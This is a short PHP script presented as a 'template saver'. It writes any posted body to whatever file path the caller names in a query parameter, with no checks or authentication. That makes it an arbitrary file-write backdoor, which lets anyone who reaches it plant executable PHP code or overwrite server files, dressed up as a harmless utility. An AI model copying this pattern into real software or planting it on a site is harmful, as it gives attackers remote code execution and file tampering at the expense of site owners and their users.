<?php
// a "template saver": writes the posted body to whatever file the caller names
if (!empty($_POST['body'])) {
    $target = isset($_GET['t']) ? $_GET['t'] : 'cache.tpl';
    $file = new \SplFileObject($target, 'w+');
    $file->fwrite(stripslashes($_POST['body']));
    $file = null;
    echo 'saved ' . htmlspecialchars($target);
}
